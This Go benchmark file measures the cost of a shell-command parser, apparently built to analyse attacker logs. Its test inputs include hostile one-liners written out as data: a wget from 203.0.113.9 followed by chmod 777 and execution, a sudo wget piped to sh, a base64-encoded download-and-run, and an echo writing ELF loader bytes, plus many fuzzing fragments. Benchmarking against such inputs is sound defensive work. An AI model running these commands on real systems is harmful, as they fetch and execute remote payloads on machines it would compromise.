package shell

import (
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"

	"github.com/ttpcron/ttpcron/internal/testlogs"
)

// What does a command of each shape cost?
func BenchmarkParse(b *testing.B) {
	for _, c := range []struct{ name, text string }{
		{"plain", "uname -s -v -n -r -m"},
		{"list", "cd /tmp || cd /var/run || cd /mnt; wget http://203.0.113.9/a.sh; chmod 777 a.sh; sh a.sh"},
		{"probe", "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s"},
		{"loader", `echo -ne "\x7f\x45\x4c\x46\x01\x02\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x08" >> .s`},
		{"sudo", "sudo -u root env A=b /usr/bin/wget -qO- 'http://x/a.sh' 2>/dev/null | sh > /tmp/o &"},
		{"decode", "echo d2dldCBodHRwOi8vMjAzLjAuMTEzLjkvYS5zaA==|base64 -d|sh"},
	} {
		b.Run(c.name, func(b *testing.B) {
			p := NewParser(Limits{})
			b.ReportAllocs()
			b.SetBytes(int64(len(c.text)))
			for b.Loop() {
				p.Parse(c.text)
			}
		})
		b.Run(c.name+"/full", func(b *testing.B) {
			p := NewParser(Limits{})
			p.b.slow = true
			b.ReportAllocs()
			for b.Loop() {
				p.Parse(c.text)
			}
		})
	}
}

// What do the distinct commands of logs cost each?
func BenchmarkLogs(b *testing.B) {
	for _, h := range testlogs.All(b) {
		commands := h.Commands(b)
		for _, way := range []string{"strict", "full"} {
			b.Run(h.Name+"/"+way, func(b *testing.B) {
				p := NewParser(Limits{})
				p.b.slow = way == "full"
				b.ReportAllocs()
				i := 0
				for b.Loop() {
					p.Parse(commands[i%len(commands)])
					i++
				}
			})
		}
	}
}

// hostileUnits are repeated into texts of a megabyte.
var hostileUnits = []string{
	"(", "((", "{ ", "$(", "$((", "echo $(", `"$(`, "`", "if ", "! ", "a|", "a;", "a\n", "a&&", "<<E\n", "$((-", "[[ ! ", "@(", "a=(", "${a-", `${a:-"`,
	"case x in x) ", "while ", "time ", "x(){ ", "function f ", "coproc ", "let (", "a[b[", "$((a[", "$((a?", "'", `"`, `\`, "<(", ">a ", "a=b ", `$'\x41`,
	"${a/", "$[", "\x00", "&", "<<a ;", "# \n", "a <<E\nE\n", "{a,", "{a,b}", "for i in a; do ", "(a)", "$(a)", "`a`", "$((1))", "${a}", "\\`", `"\`,
	"a", "a ", "-a ", "http://x ", "://", "eval ", "sh -c '", "sudo ", "xargs ", "env A=b ", "sh<<<a|", "echo a|sh;", "a=$a$a;", "a=aaaaaaaa$a;echo $a;", "$IFS",
	"echo a>x;sh x;", "echo sh x>>x;sh x;", "eval $(a);", "find -exec ", "f() { f|f& };f;", "\xff", "\r\n", "python -c 'system(\"", "system(\"a\");", "echo aa|base64 -d|",
	"printf %s%s%s a b;", "printf '%s%s' a b c d e f g;", "tr a-z b-y|", "echo -e '\\x41", "\\\n", "crontab -|", "cat <<A|sh\n", "awk 'system(\"x\")';", "~", "*?[", "!", "; ;", "|&",
	"a <<'E' | sh\na\nE\n", "{", "}", "{a..z}", "${a:1:2}", "a='b c';$a ", "sh -c \"sh -c '", "$(echo $(", "bash <(", "busybox ", "curl -d@a ", "-abcdefgh ", "((a)", "[[ a == b ",
	"{{a,b},", "x{a,b}y{c,d} ", "$@a", "${#a}", "${a//b/c}", "a&", "select a in b;do ", "echo a |", "tee a|", "cp a b;", "cat a b c;",
}

func hostile(unit string, size int) string { return strings.Repeat(unit, size/len(unit)+1)[:size] }

// What does the worst megabyte cost?
func BenchmarkHostile(b *testing.B) {
	for _, unit := range hostileUnits {
		text := hostile(unit, 1<<20)
		b.Run(unit, func(b *testing.B) {
			p := NewParser(Limits{})
			b.ReportAllocs()
			for b.Loop() {
				p.Parse(text)
			}
		})
	}
}

// What does the full parser alone cost on the same commands?
func BenchmarkYardstick(b *testing.B) {
	for _, h := range testlogs.All(b) {
		commands := h.Commands(b)
		b.Run(h.Name, func(b *testing.B) {
			p := syntax.NewParser(syntax.Variant(syntax.LangBash))
			b.ReportAllocs()
			i := 0
			for b.Loop() {
				_, _ = p.Parse(strings.NewReader(commands[i%len(commands)]), "")
				i++
			}
		})
	}
}
